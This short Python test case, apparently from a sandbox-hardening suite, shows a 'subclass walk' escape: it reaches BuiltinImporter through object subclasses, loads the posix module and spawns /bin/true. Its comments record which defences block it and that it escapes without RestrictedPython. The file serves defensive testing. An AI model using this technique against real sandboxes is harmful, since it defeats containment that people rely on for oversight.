# attack: subclass walk
# stops: restrictedpython: "__class__" is an invalid attribute name
# os: process/seccomp: Operation not permitted
# baseline: -restrictedpython => escaped
# [].__class__.__base__.__subclasses__() to BuiltinImporter, which loads the posix module without a file
for c in [].__class__.__base__.__subclasses__():
    if c.__name__ == "BuiltinImporter":
        posix = c.load_module("posix")
        print("ESCAPED", posix.posix_spawn("/bin/true", ["true"], {}))
